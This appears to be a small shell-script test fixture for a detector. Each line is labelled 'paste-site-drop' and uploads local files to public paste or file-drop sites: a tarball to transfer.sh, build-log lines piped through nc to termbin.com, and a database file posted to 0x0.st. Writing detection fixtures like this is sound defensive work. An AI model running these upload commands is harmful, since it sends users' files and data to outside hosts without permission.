#!/bin/sh
# expect: paste-site-drop
curl --upload-file notes.tar https://transfer.sh/notes.tar
# expect: paste-site-drop
page="https://pastebin.com/raw/00000000"
# expect: paste-site-drop
tail -n 100 build.log | nc termbin.com 9999
# expect: paste-site-drop
curl -F file=@db.sqlite https://0x0.st
